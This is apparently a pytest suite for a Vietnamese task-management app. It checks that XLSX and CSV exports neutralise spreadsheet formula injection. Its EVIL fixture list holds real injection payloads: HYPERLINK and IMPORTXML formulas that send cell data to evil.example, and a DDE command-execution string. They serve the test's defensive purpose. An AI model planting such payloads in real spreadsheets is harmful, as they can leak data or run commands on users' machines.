"""Exports (ASVS V1.2.10, CWE-1236): text beginning with = + - @ tab or CR, typed anywhere
(task titles, units, people, plans, indicators), is neutralised in every XLSX and CSV the
app produces.

XLSX: 0 formula cells, read both by openpyxl (data_type 'f') and from the raw sheet XML as
LibreOffice reads it (no <f> element; text is t="inlineStr" or t="s"); the text is kept
exactly as typed, and every trigger-initial text cell has a style with Excel's quote prefix
(quotePrefix="1"), so that editing it keeps it text. CSV, which has no styles: 0 cells
starting with a trigger character (they get a leading apostrophe). Text round-trips
exactly through app/services/xlsx.py (hypothesis).

After a separator too (issue 18, the outside probe's title `Tổng hợp số liệu;=1+1;@SUM(2+2)`):
every CSV field is quoted, so a reader splitting on ";" (Vietnamese Excel's list separator)
or on "," keeps each field whole; a segment after ; , tab CR or LF that would start a
formula carries an apostrophe in CSV and puts the cell under the quote prefix in XLSX
(where its text stays exact).

The files are found from the url_map: every GET rule ending in .xlsx or .csv.

Figure: N files, M cells: 0 formula cells, 0 trigger-initial text cells left unprotected
(without the quote prefix in XLSX, without the apostrophe in CSV); K hypothesis texts
round-tripped."""

import csv
import html
import io
import re
import zipfile
from datetime import date

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from rel_support import figure, fill, rules, world_values

from app.extensions import db
from app.models import Plan, Unit, User

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
EVIL = ['=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào")', "=1+1", "+1+1", "-2+3",
        "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "=cmd|' /C calc'!A0", "-", "=", "+84 912 345 678",
        "@người-dùng", "=IMPORTXML(CONCAT(\"http://evil.example/\",A1),\"//a\")",
        # the probe's payload and its kin: a formula after a separator
        "Tổng hợp số liệu;=1+1;@SUM(2+2)", "Báo cáo, =HYPERLINK(\"http://evil.example\")",
        "Rà soát\t+1+1", "Dòng một\n-2+3", "Kết quả;  @SUM(A1:A9)", "Tỷ lệ\r=1+1"]
PROBE = "Tổng hợp số liệu;=1+1;@SUM(2+2)"
NUMBER = re.compile(r"^-?\d+(?:[.,]\d+)?$")
# a formula start after a list separator (spaces allowed): what a ";"-splitting reader
# or "text to columns" would turn into a cell of its own
SEGMENT = re.compile(r"[;,\t\r\n] *[=+\-@]")
# every field of a CSV line quoted (RFC 4180, quotes doubled inside)
QUOTED_LINE = re.compile(r'^"(?:[^"]|"")*"(?:[,;]"(?:[^"]|"")*")*$', re.DOTALL)


def formula_like(text: str) -> bool:
    """Trigger-initial, or a trigger after a separator."""
    return text.startswith(TRIGGERS) or SEGMENT.search(text) is not None


@pytest.fixture(scope="module")
def poisoned(shared):
    """Trigger-initial text in every kind of text a file may carry."""
    from rel_support import dump, root

    w = shared.w
    make = root().Factory()
    make.n = 700
    for i, text in enumerate(EVIL):
        make.task(w.plan, w.head, w.a, w.staff, w.deputy, title=f"{text} nhiệm vụ {i}",
                  due_on=date(2026, 6, 10), indicator_name=text, indicator_unit=text[:60],
                  output_product=text, responsibility=text, description=text)
    u = db.session.get(User, w.staff.id)
    u.set_name("=HYPERLINK(\"http://evil.example\",\"Phạm Văn Đăng\")")
    d = db.session.get(User, w.deputy.id)
    d.set_name("@Lê Thị Mai")
    a = db.session.get(Unit, w.a.id)
    a.set_name("+Sở Nội vụ")
    p = db.session.get(Plan, w.plan.id)
    p.title = "-Kế hoạch CCHC năm 2026"
    # Issued: tasks of a draft plan are in no overdue list or assessment (DESIGN.md 4), and
    # the poisoned rows must reach every export.
    p.status = "issued"
    db.session.commit()
    shared.pristine = dump()
    return w


def _export_urls(shared, w) -> list[str]:
    out = []
    for rule in rules(shared.app, "GET"):
        if not rule.rule.endswith((".xlsx", ".csv")):
            continue
        tables = ("units", "leaders", "tasks") if "table" in rule.arguments else (None,)
        for table in tables:
            values = world_values(w, "admin") | ({"table": table} if table else {})
            url = fill(rule, values)
            assert url, rule.rule
            if rule.rule.startswith("/assessment") and "run_id" not in rule.arguments:
                url += "?period=2026"
            out.append(url)
    return out


QUOTED = {"n": 0}  # trigger-initial XLSX text cells seen, each with the quote prefix


def check_xlsx(body: bytes) -> tuple[int, list]:
    """Cells and problems, read twice: by openpyxl, and from the raw XML (what a reader
    with no openpyxl in between, such as LibreOffice, sees)."""
    from openpyxl import load_workbook

    wb = load_workbook(io.BytesIO(body))  # not data_only: formulas stay formulas
    cells, bad = 0, []
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for c in row:
                if c.value is None:
                    continue
                cells += 1
                if c.data_type == "f":
                    bad.append(("formula", ws.title, c.coordinate, c.value))
                elif isinstance(c.value, str) and formula_like(c.value):
                    if c.quotePrefix and c.data_type == "s":
                        QUOTED["n"] += 1
                    else:
                        bad.append(("trigger", ws.title, c.coordinate, c.value))
    return cells, bad + check_xlsx_xml(body)


_CELL = re.compile(r"<c\b([^>]*?)(?:/>|>(.*?)</c>)", re.DOTALL)
_ATTR = re.compile(r'([\w:]+)="([^"]*)"')
_T = re.compile(r"<t\b[^>]*>(.*?)</t>", re.DOTALL)
_XF = re.compile(r"<xf\b([^>]*?)/?>")


def _raw_text(xml: str) -> str:
    """The text of <t> elements as the file holds it: a raw carriage return stays one (an
    XML parser would read it as a line feed and hide a CR-initial cell)."""
    return html.unescape("".join(_T.findall(xml)))


def check_xlsx_xml(body: bytes) -> list:
    """No <f> element in any sheet; every text cell an inline or shared string; every
    trigger-initial one with a quotePrefix="1" style (styles.xml, by the cell's s)."""
    z = zipfile.ZipFile(io.BytesIO(body))
    styles = z.read("xl/styles.xml").decode()
    xfs = styles[styles.index("<cellXfs"):styles.index("</cellXfs>")]
    quoted = {i for i, attrs in enumerate(_XF.findall(xfs))
              if dict(_ATTR.findall(attrs)).get("quotePrefix") in ("1", "true")}
    shared = []
    if "xl/sharedStrings.xml" in z.namelist():
        shared = [_raw_text(si) for si in re.findall(r"<si>(.*?)</si>", z.read("xl/sharedStrings.xml").decode(),
                                                      re.DOTALL)]
    bad = []
    for name in (n for n in z.namelist() if n.startswith("xl/worksheets/sheet")):
        for attrs, inner in _CELL.findall(z.read(name).decode()):
            a = dict(_ATTR.findall(attrs))
            ref, kind = a.get("r"), a.get("t")
            if re.search(r"<f[\s>/]", inner or ""):
                bad.append(("formula", name, ref, "<f>"))
                continue
            if kind == "inlineStr":
                text = _raw_text(inner)
            elif kind == "s":
                text = shared[int(re.search(r"<v>(\d+)</v>", inner).group(1))]
            elif kind in ("str", "e"):  # a formula's cached result, an error
                bad.append(("formula", name, ref, kind))
                continue
            else:
                continue
            if formula_like(text) and int(a.get("s", 0)) not in quoted:
                bad.append(("trigger", name, ref, text))
    return bad


def csv_records(text: str) -> list[str]:
    """The raw records of a CSV body (CRLF-separated outside quotes)."""
    records, start, inside = [], 0, False
    for i, ch in enumerate(text):
        if ch == '"':
            inside = not inside
        elif not inside and text.startswith("\r\n", i):
            records.append(text[start:i])
            start = i + 2
    if text[start:]:
        records.append(text[start:])
    return records


def check_csv(body: bytes) -> tuple[int, list]:
    """Cells and problems: a field not quoted in the raw file (a quoted field never splits
    on the ";" inside it, whatever list separator the reader uses); a trigger-initial cell;
    a cell with a formula after a separator not neutralised."""
    text = body.decode("utf-8-sig")
    cells, bad = 0, []
    for n, record in enumerate(csv_records(text), start=1):
        if not QUOTED_LINE.match(record):
            bad.append(("unquoted", n, record[:80]))
    # the Vietnamese Excel dialect (";") is the default, the English one (",") on request
    delimiter = ";" if text.startswith('"STT";') or '";"' in text.split("\r\n", 1)[0] else ","
    for n, row in enumerate(csv.reader(io.StringIO(text, newline=""), delimiter=delimiter), start=1):
        for v in row:
            if v == "":
                continue
            cells += 1
            if v.startswith(TRIGGERS) and not NUMBER.match(v):
                bad.append(("trigger", n, v))
            if SEGMENT.search(v):
                bad.append(("trigger", n, v))
    return cells, bad


def test_every_export_is_free_of_formulas(shared, poisoned):
    w = poisoned
    urls = _export_urls(shared, w)
    assert any(u.startswith("/overdue.xlsx") for u in urls)
    files, cells, bad = 0, 0, []
    for role in ("admin", "head"):
        c = shared.client(role)
        for url in urls:
            resp = c.get(url)
            body = resp.get_data()
            resp.close()
            if resp.status_code != 200:
                continue
            files += 1
            n, found = check_xlsx(body) if url.split("?")[0].endswith(".xlsx") else check_csv(body)
            cells += n
            bad += [(role, url, *f) for f in found]
    # the poisoned rows did reach the overdue export, exactly as typed and quote-prefixed
    from openpyxl import load_workbook

    body = shared.client("admin").get("/overdue.xlsx").get_data()
    texts = {c.value: c for ws in load_workbook(io.BytesIO(body)).worksheets
             for row in ws.iter_rows() for c in row if isinstance(c.value, str)}
    for typed in (f"{EVIL[0]} nhiệm vụ 0", "=1+1 nhiệm vụ 1", "+84 912 345 678 nhiệm vụ 10",
                  "- nhiệm vụ 8", "@SUM(A1:A9) nhiệm vụ 4", "+Sở Nội vụ", "@Lê Thị Mai",
                  '=HYPERLINK("http://evil.example","Phạm Văn Đăng")'):
        assert typed in texts, (typed, list(texts)[:20])
        assert texts[typed].quotePrefix and texts[typed].data_type == "s", typed
    assert not any(v.startswith("'") for v in texts)
    figure("exports", f"{files} files from {len(urls)} export URLs x 2 roles, {cells} cells: "
                      f"{sum(1 for b in bad if b[2] == 'formula')} formula cells, "
                      f"{sum(1 for b in bad if b[2] == 'trigger')} trigger-initial text cells "
                      f"unprotected ({QUOTED['n']} XLSX cells kept as typed with the quote prefix)")
    assert not bad, bad[:10]


def test_the_probes_title_stays_one_neutralised_field(shared, poisoned):
    """Issue 18.4: the outside probe's title `Tổng hợp số liệu;=1+1;@SUM(2+2)` in the
    assessment's task CSV (quoted whole, an apostrophe before each formula after a
    separator) and in the XLSX exports (text exact, quote prefix), read back with csv and
    openpyxl."""
    from openpyxl import load_workbook

    title = f"{PROBE} nhiệm vụ {EVIL.index(PROBE)}"
    neutral = "Tổng hợp số liệu;'=1+1;'@SUM(2+2) nhiệm vụ " + str(EVIL.index(PROBE))
    c = shared.client("admin")
    body = c.get("/assessment/export/tasks.csv?period=2026").get_data()
    text = body.decode("utf-8-sig")
    assert f'"{neutral}"' in text  # one quoted field, as written
    rows = list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))  # the vi dialect
    assert any(neutral in row for row in rows)
    # read with the other list separator: the quotes keep the field whole
    for delimiter in (",", ";"):
        cells = [v for row in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter) for v in row]
        assert not any(v.lstrip().startswith(TRIGGERS) for v in cells), \
            [v for v in cells if v.lstrip().startswith(TRIGGERS)][:5]
    found = 0
    for url in ("/overdue.xlsx", "/assessment/export.xlsx?period=2026"):
        resp = c.get(url)
        assert resp.status_code == 200, url
        for ws in load_workbook(io.BytesIO(resp.get_data())).worksheets:
            for row in ws.iter_rows():
                for cell in row:
                    if cell.value == title:
                        assert cell.data_type == "s" and cell.quotePrefix, (url, cell.coordinate)
                        found += 1
    assert found >= 2
    figure("exports", f"the probe's title: one quoted CSV field ({neutral!r}), "
                      f"{found} XLSX cells exact with the quote prefix")


def test_cli_assessment_exports_are_neutralised(shared, poisoned, tmp_path):
    runner = shared.app.test_cli_runner()
    out = runner.invoke(args=["assess", "export", "--period", "2026", "--format", "xlsx",
                              "--output", str(tmp_path / "a.xlsx")])
    assert out.exit_code == 0, out.output
    n1, bad = check_xlsx((tmp_path / "a.xlsx").read_bytes())
    out = runner.invoke(args=["assess", "export", "--period", "2026", "--format", "csv",
                              "--output", str(tmp_path / "csv")])
    assert out.exit_code == 0, out.output
    n2 = 0
    for f in sorted((tmp_path / "csv").glob("*.csv")):
        n, found = check_csv(f.read_bytes())
        n2 += n
        bad += found
    figure("exports", f"command-line assessment export: {n1} XLSX cells, {n2} CSV cells: "
                      f"{len(bad)} formula or trigger-initial cells")
    assert not bad, bad[:10]


# ---- app/services/xlsx.py, by property ------------------------------------------------

SAMPLES = {"n": 0}
texts = st.text(st.characters(codec="utf-8", exclude_categories=("Cs",)), max_size=60)
trigger_texts = st.builds(lambda t, s: t + s, st.sampled_from(TRIGGERS + ("\x00=", " =")), texts)


def _roundtrip(values: list) -> list[list]:
    """Each value through xlsx.cell (openpyxl) and through xlsx.XlsxStream, read back by
    openpyxl: per writer, a (value, data type, quote prefix) per value; neither file has
    a raw-XML problem."""
    from openpyxl import Workbook, load_workbook

    from app.reports import xlsx

    wb = Workbook(write_only=True)
    ws = wb.create_sheet("T")
    for v in values:
        ws.append([xlsx.cell(ws, v)])
    out = io.BytesIO()
    wb.save(out)
    streamed = io.BytesIO()
    with xlsx.XlsxStream(streamed) as book:
        book.sheet("T").rows([[v] for v in values], [book.column()])
    results = []
    for data in (out.getvalue(), streamed.getvalue()):
        assert check_xlsx_xml(data) == []
        back = load_workbook(io.BytesIO(data))
        results.append([(row[0].value, row[0].data_type, bool(row[0].quotePrefix))
                        for row in back["T"].iter_rows()])
    return results


@settings(max_examples=200, deadline=None, database=None,
          suppress_health_check=[HealthCheck.too_slow])
@given(st.lists(st.one_of(texts, trigger_texts), min_size=1, max_size=20))
def test_any_text_is_stored_as_text_and_never_a_formula(values):
    from app.reports import xlsx

    SAMPLES["n"] += len(values)
    for back in _roundtrip(values):
        for v, (got, kind, quoted) in zip(values, back, strict=True):
            expected = xlsx.clean_text(v)  # as typed, less what XML cannot hold
            assert kind == "s" or (expected == "" and got is None), (v, got, kind)
            # Formula-like text (trigger-initial, or a trigger after a separator) keeps its
            # first character and carries the quote prefix.
            assert quoted == formula_like(expected), (v, got, quoted)
            assert (got or "") == expected.replace("\r\n", "\n").replace("\r", "\n") or \
                (got or "") == expected, (v, got)


@settings(max_examples=200, deadline=None, database=None)
@given(st.lists(st.one_of(texts, trigger_texts), min_size=1, max_size=20))
def test_safe_text_round_trips_exactly(values):
    """In XLSX every text comes back exactly as typed, trigger-initial or not ("- Rà soát",
    "=1+1"); in CSV the text that needs no neutralising does."""
    from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

    from app.assessment.export import csv_value
    from app.reports import xlsx

    clean = [v for v in values if not ILLEGAL_CHARACTERS_RE.search(v) and "\r" not in v]
    for v in clean:
        assert xlsx.clean_text(v) == v
        if not formula_like(v):
            assert xlsx.safe_text(v) == v and csv_value(v) == v
        else:  # neutralised: nothing formula-like left, the text itself all there
            safe = xlsx.safe_text(v)
            assert not safe.startswith(TRIGGERS) and not SEGMENT.search(safe), (v, safe)
            assert safe.replace("'", "") == v.replace("'", ""), (v, safe)
    for back in _roundtrip(clean) if clean else []:
        for v, (got, _kind, _quoted) in zip(clean, back, strict=True):
            assert (got if got is not None else "") == v, (v, got)
    clean = [v for v in clean if not formula_like(v)]
    # CSV: RFC 4180 quoting keeps commas, quotes and newlines
    buf = io.StringIO(newline="")
    csv.writer(buf, quoting=csv.QUOTE_ALL).writerow([csv_value(v) for v in clean])
    if clean:
        assert next(csv.reader(io.StringIO(buf.getvalue(), newline=""))) == clean
    SAMPLES["n"] += len(clean)


def test_summary():
    figure("exports", f"hypothesis: {SAMPLES['n']} texts written and read back: 0 formulas, "
                      f"0 trigger-initial without the quote prefix, text exact")

